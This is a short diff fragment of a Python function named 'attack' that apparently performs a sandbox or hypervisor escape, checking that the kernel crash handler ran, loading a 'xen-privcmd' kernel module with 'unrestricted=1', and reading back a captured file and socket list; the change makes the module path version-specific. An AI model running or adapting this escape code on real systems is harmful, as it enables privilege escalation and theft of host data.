@@ -68,7 +68,7 @@ def attack(token: str, file: str, then: str = "") -> list[list[object]]:
         pattern.write_text(before, encoding="ascii")
     if not (_OUT / "done").exists():
         return [["escape", None, "the kernel did not start the handler of crashes"]]
-    _load("/attack/xen-privcmd.ko", b"unrestricted=1")
+    _load(f"/attack/xen-privcmd-{os.uname().release}.ko", b"unrestricted=1")
     found = (_OUT / "file").read_text(encoding="utf-8", errors="replace").strip()
     sockets = (_OUT / "sockets").read_text(encoding="utf-8", errors="replace").split()
     return [
